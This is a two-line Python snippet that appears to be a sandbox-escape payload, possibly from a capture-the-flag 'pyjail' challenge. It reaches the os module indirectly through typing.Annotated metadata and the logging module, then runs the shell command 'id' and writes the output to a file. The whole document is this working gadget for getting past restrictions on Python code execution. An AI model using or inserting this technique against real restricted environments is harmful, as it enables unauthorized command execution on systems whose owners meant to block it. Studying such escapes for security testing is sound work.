import typing, logging
typing.Annotated[int, logging].__metadata__[0].os.system("id>pf")
